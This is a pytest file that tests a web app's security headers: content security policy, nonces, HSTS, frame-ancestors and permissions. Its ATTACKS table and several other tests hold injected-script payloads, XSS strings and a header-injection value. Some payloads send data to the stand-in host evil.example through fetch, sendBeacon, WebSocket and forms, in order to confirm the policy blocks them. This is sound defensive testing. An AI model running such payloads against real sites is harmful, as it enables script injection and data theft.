"""What a browser is told with each answer: what it may load, run and show in a frame, and that it comes by https."""

from __future__ import annotations

import re
from collections.abc import AsyncIterator
from typing import Any

import httpx
import pytest
from pydantic import ValidationError

from auth import NONCE, Settings, framed, public
from auth.access import PageBuilder, is_framed
from auth.web.content_policy import SCOPE_NONCE, ContentPolicy, with_nonce
from auth.web.headers import Headers
from pages import ROUTES
from tests.browser.devices import MakeDevice
from tests.http import patient_client
from tests.running import either_store
from tests.server import Server

from .conftest import Start
from .wire import Connection, upgrade

pytestmark = either_store

POLICY = 'content-security-policy'
HSTS = 'strict-transport-security'
EVERYWHERE = {'x-content-type-options': 'nosniff', 'referrer-policy': 'same-origin',
              'cross-origin-opener-policy': 'same-origin', 'cross-origin-resource-policy': 'same-origin'}
ASKED = {
    'a page': ('GET', '/'), 'a page in a frame': ('GET', '/demo/pane'), 'the headers of a page': ('HEAD', '/'),
    'no page': ('GET', '/nowhere'), 'administration': ('GET', '/admin'), 'to sign in first': ('GET', '/account'),
    'without the slash': ('GET', '/account/'), 'a page that is written': ('POST', '/'),
    'the API': ('GET', '/v1/client'), 'an error of the API': ('POST', '/v1/client/sign_ins'),
    'nothing of the API': ('GET', '/v1/nothing'), 'a stylesheet': ('GET', '/_live_sessions/app.css'),
    'no stylesheet': ('GET', '/_live_sessions/no.css'), 'the icon': ('GET', '/favicon.ico'),
    'a socket that polls': ('GET', '/_nicegui_ws/socket.io/?EIO=4&transport=polling'),
    'no socket': ('GET', '/_nicegui_ws/socket.io/?EIO=4&transport=polling&sid=none'),
    'a script for the sockets': ('GET', '/_nicegui_ws/socket.io/?j=1'),
}


@pytest.fixture
async def visitor(shared_server: Server) -> AsyncIterator[httpx.AsyncClient]:
    """Somebody without a browser."""
    async with patient_client(base_url=shared_server.url) as http:
        yield http


def directives(answer: httpx.Response) -> dict[str, str]:
    """The one policy of an answer."""
    (policy,) = answer.headers.get_list(POLICY)
    return dict(part.strip().partition(' ')[::2] for part in policy.split(';'))


@pytest.mark.parametrize('what', ASKED)
async def test_every_answer_has_them_once(visitor: httpx.AsyncClient, what: str) -> None:
    method, path = ASKED[what]

    answer = await visitor.request(method, path)
    policy = directives(answer)

    assert {name: answer.headers.get_list(name) for name in EVERYWHERE} == {
        name: [value] for name, value in EVERYWHERE.items()}
    assert policy['base-uri'] == "'none'"
    assert policy['frame-ancestors'] == ("'self'" if path == '/demo/pane' else "'none'")
    if answer.headers.get('content-type', '').startswith('text/html'):
        assert policy['default-src'] == policy['form-action'] == "'self'"
        assert 'camera=()' in answer.headers['permissions-policy']
    else:
        assert policy['default-src'] == policy['form-action'] == "'none'"
    assert HSTS not in answer.headers


async def test_the_policy_of_a_page_is_that_which_was_chosen(visitor: httpx.AsyncClient) -> None:
    policy = directives(await visitor.get('/'))

    assert re.fullmatch(r"'self' 'nonce-[\w-]{22}' 'unsafe-eval'", policy.pop('script-src'))
    assert policy == {
        'default-src': "'self'", 'style-src': "'self' 'unsafe-inline'", 'img-src': "'self' data:",
        'font-src': "'self'", 'connect-src': "'self'", 'object-src': "'none'", 'base-uri': "'none'",
        'form-action': "'self'", 'frame-ancestors': "'none'", 'report-uri': '/v1/policy_reports'}


@pytest.mark.parametrize('path', [path for path in ROUTES if not path.startswith(('/account', '/admin'))])
async def test_each_script_of_a_page_has_the_nonce_of_this_one_answer(visitor: httpx.AsyncClient, path: str) -> None:
    answers = [await visitor.get(path) for _ in range(2)]

    nonces = [re.findall("'nonce-(.*?)'", answer.headers[POLICY]) for answer in answers]
    for answer, (nonce,) in zip(answers, nonces, strict=True):
        tags = re.findall('<script[^>]*>', answer.text)
        external = [tag for tag in tags if ' src="/' in tag or 'application/json' in tag]
        assert len(tags) > len(external) + 3
        assert [tag for tag in tags if f'nonce="{nonce}"' not in tag and tag not in external] == []
        assert NONCE not in answer.text
    assert nonces[0] != nonces[1]


async def test_what_looks_like_a_script_in_an_address_gets_no_nonce(visitor: httpx.AsyncClient) -> None:
    answer = await visitor.get('/demo/pane', params={'name': f'</title><script>1</script><script {NONCE}>'})

    (nonce,) = re.findall("'nonce-(.*?)'", answer.headers[POLICY])
    assert '</title><script' not in answer.text
    assert f'nonce="{nonce}">1' not in answer.text
    assert with_nonce(f'<script {NONCE}>', 'abc') == '<script nonce="abc">'


@pytest.mark.parametrize(('settings', 'told'), [
    ({}, 'max-age=31536000'), ({'hsts_seconds': 60}, 'max-age=60'), ({'hsts_seconds': 0}, None),
    ({'hsts_subdomains': True}, 'max-age=31536000; includeSubDomains')])
def test_that_the_site_comes_by_https_is_told_by_https_only(settings: dict[str, Any], told: str | None) -> None:
    headers = Headers(Settings(**settings))

    for scheme, secure in (('http', False), ('ws', False), ('https', True), ('wss', True)):
        for of in (headers.of_document, headers.of_anything_else):
            found = dict(of({'scheme': scheme, 'headers': []})).get(HSTS.encode())
            assert found == (told.encode() if told and secure else None)


async def test_behind_a_proxy_that_ends_tls_it_is_told_with_every_answer(start: Start) -> None:
    server = await start({'PUBLIC_URL': 'https://example.com', 'HSTS_SECONDS': '7200'})
    async with patient_client(base_url=server.url, headers={'host': 'example.com'}) as visitor:
        answers = [await visitor.get(path) for path in (
            '/', '/v1/client', '/nowhere', '/_live_sessions/app.css', '/account')]
        evil = await visitor.get('/', headers={'host': 'evil.example'})

    assert {answer.headers.get(HSTS) for answer in answers} == {'max-age=7200'}
    assert (evil.status_code, evil.headers.get(HSTS)) == (421, None)
    assert "default-src 'none'" in evil.headers[POLICY]


@pytest.mark.parametrize('path', ['/nowhere', '/_nicegui_ws/other',
                                  '/_nicegui_ws/socket.io/?EIO=4&sid=x&transport=websocket'])
async def test_a_socket_that_is_turned_away_is_told_the_same(shared_server: Server, path: str) -> None:
    asked = upgrade().replace(upgrade().split(b' ')[1], path.encode(), 1)
    connection = await Connection.to(shared_server.port, asked)

    head = (await connection.read_until(b'\r\n\r\n')).decode().lower()

    assert head.startswith('http/1.1 403')
    for name, value in {**EVERYWHERE, POLICY: "default-src 'none'"}.items():
        assert head.count(f'\r\n{name}: {value}') == 1


def test_an_author_adds_sources_and_nothing_that_lets_everything_in() -> None:
    settings = Settings(content_sources='img-src https://images.example.com blob:; Connect-Src wss://api.example.com;'
                                        'script-src https://cdn.example.com/a.js; media-src *.example.com;')
    policy = dict(Headers(settings).of_document({'scheme': 'http', 'headers': []}))[POLICY.encode()].decode()

    assert "img-src 'self' data: https://images.example.com blob:;" in policy
    assert "connect-src 'self' wss://api.example.com;" in policy
    assert "script-src 'self' https://cdn.example.com/a.js;" in policy
    assert "media-src 'self' *.example.com;" in policy


@pytest.mark.parametrize('wrong', [
    '*', 'img-src *', "script-src 'unsafe-inline'", 'script-src data:', 'script-src https:', 'script-src blob:',
    'worker-src data:', "script-src 'nonce-abc'", "script-src 'strict-dynamic'", 'object-src https://a.example',
    'frame-ancestors https://a.example', 'base-uri https://a.example', 'report-uri https://a.example',
    'img-src https://a.example,script-src', 'img-src https://a.example\r\nset-cookie: x', 'img-src https://',
    'default-src https://a.example', 'img-src https://ä.example', 'img-src http:', 'script-src *.com/..;x',
    'style-src https://a.example\x00', 'images https://a.example'])
def test_sources_that_would_open_the_policy_are_refused_in_words(wrong: str) -> None:
    with pytest.raises(ValidationError, match=r'write|begin|name'):
        Settings(content_sources=wrong)


def test_what_pages_may_ask_a_browser_for_is_named_one_by_one() -> None:
    def told(permissions: str) -> str:
        return dict(Headers(Settings(permissions=permissions)).of_document({'scheme': 'http', 'headers': []}))[
            b'permissions-policy'].decode()

    assert 'camera=()' in told('')
    assert 'geolocation=()' in told('')
    assert 'camera' not in told('Camera, geolocation')
    assert 'microphone=()' in told('camera')
    with pytest.raises(ValidationError, match='names of features'):
        Settings(permissions='camera=*')


async def test_an_answer_that_says_something_by_itself_keeps_it() -> None:
    sent: list[Any] = []

    async def send(message: Any) -> None:
        sent.append(message)

    own = (b'Content-Security-Policy', b"default-src 'none'; sandbox")
    await Headers(Settings()).added({'scheme': 'http', 'headers': []}, send)(
        {'type': 'http.response.start', 'status': 200, 'headers': [(b'content-type', b'text/html'), own]})

    names = [name.lower() for name, _ in sent[0]['headers']]
    assert names.count(POLICY.encode()) == 1
    assert own in sent[0]['headers']
    assert set(map(str.encode, EVERYWHERE)) <= set(names)


def test_a_document_without_a_nonce_runs_no_inline_script() -> None:
    policy = ContentPolicy({})

    assert b'unsafe-eval' not in policy.of_document({})
    assert b'nonce' not in policy.of_document({})
    assert b"'nonce-abc' 'unsafe-eval'" in policy.of_document({SCOPE_NONCE: 'abc'})


ATTACKS = {
    'script-src-elem': ["document.body.append(Object.assign(document.createElement('script'), {text: 'ran = true'}))",
                        "document.body.append(Object.assign(document.createElement('script'), {src: evil}))",
                        "document.body.innerHTML += '<iframe src=\"javascript:parent.ran = true\"></iframe>'"],
    'script-src-attr': ["document.body.insertAdjacentHTML('beforeend', '<img src=data: onerror=\"ran = true\">')"],
    'connect-src': ['fetch(evil).catch(() => 0)', 'navigator.sendBeacon(evil)', 'new WebSocket("wss://evil.example")'],
    'img-src': ['new Image().src = evil'],
    'frame-src': ["document.body.append(Object.assign(document.createElement('iframe'), {src: evil}))"],
    'object-src': ["document.body.insertAdjacentHTML('beforeend', '<object data=/_live_sessions/icon.svg></object>')"],
    'base-uri': ["document.head.append(Object.assign(document.createElement('base'), {href: evil}))"],
    'form-action': ["document.body.append(Object.assign(document.createElement('form'), {action: evil, id: 'sent'}));"
                    'document.getElementById("sent").submit()'],
}
"""What somebody would do who has got something into a page, by the directive that refuses it."""


async def test_what_somebody_gets_into_a_page_neither_runs_nor_tells_anybody(device: MakeDevice) -> None:
    laptop = await device()
    asked: list[str] = []
    await laptop.context.route('**://evil.example/**', lambda route: asked.append(route.request.url) or route.abort())
    tab = await laptop.tab('/')
    await tab.page.evaluate("""() => {
        window.refused = [];
        document.addEventListener('securitypolicyviolation', (event) => refused.push(event.effectiveDirective));
    }""")

    for directive, attacks in ATTACKS.items():
        for attack in attacks:
            await tab.page.evaluate(f"() => {{ const evil = 'https://evil.example/'; window.refused = []; {attack} }}")
            await tab.page.wait_for_function(f"refused.includes('{directive}')")

    assert await tab.page.evaluate('window.ran') is None
    assert asked == []
    assert len(tab.violations) >= len(ATTACKS)
    tab.violations.clear()
    tab.complaints.clear()


async def test_another_site_shows_no_page_of_this_one_in_a_frame(device: MakeDevice) -> None:
    laptop = await device()
    frames = ''.join(f'<iframe name="{name}" src="{laptop.url}{path}"></iframe>'
                     for name, path in {'home': '/', 'pane': '/demo/pane', 'data': '/v1/client'}.items())
    await laptop.context.route('http://evil.localhost/', lambda route: route.fulfill(body=frames,
                                                                                     content_type='text/html'))
    evil = await laptop.tab(None)

    await evil.page.goto('http://evil.localhost/')

    for frame in evil.page.frames[1:]:
        assert await frame.evaluate('document.body.innerText.includes("Live Sessions")') is False
        assert frame.url.startswith('chrome-error:')
    assert len(evil.page.frames) == 4
    evil.violations.clear()
    evil.complaints.clear()


async def test_a_page_shows_no_page_of_the_site_in_a_frame_but_what_is_made_for_it(device: MakeDevice) -> None:
    tab = await (await device()).tab('/')

    for path, is_shown in (('/sign-in', False), ('/demo/pane', True)):
        await tab.page.evaluate("""(path) => new Promise((done) => document.body.append(Object.assign(
            document.createElement('iframe'), {src: path, name: path, onload: done})))""", path)
        frame = tab.page.frame(name=path)
        assert frame is not None
        assert frame.url.startswith('chrome-error:') is not is_shown
    assert 'frame-ancestors' in tab.violations.pop()
    tab.forgive_the_network()  # it calls the refused frame a failure to load


def test_a_page_says_by_itself_that_it_may_be_in_a_frame() -> None:
    def pane() -> None:
        pass

    assert [path for path, builder in ROUTES.items() if is_framed(builder)] == ['/demo/pane']
    marked: PageBuilder = framed(public(pane))
    assert is_framed(marked)
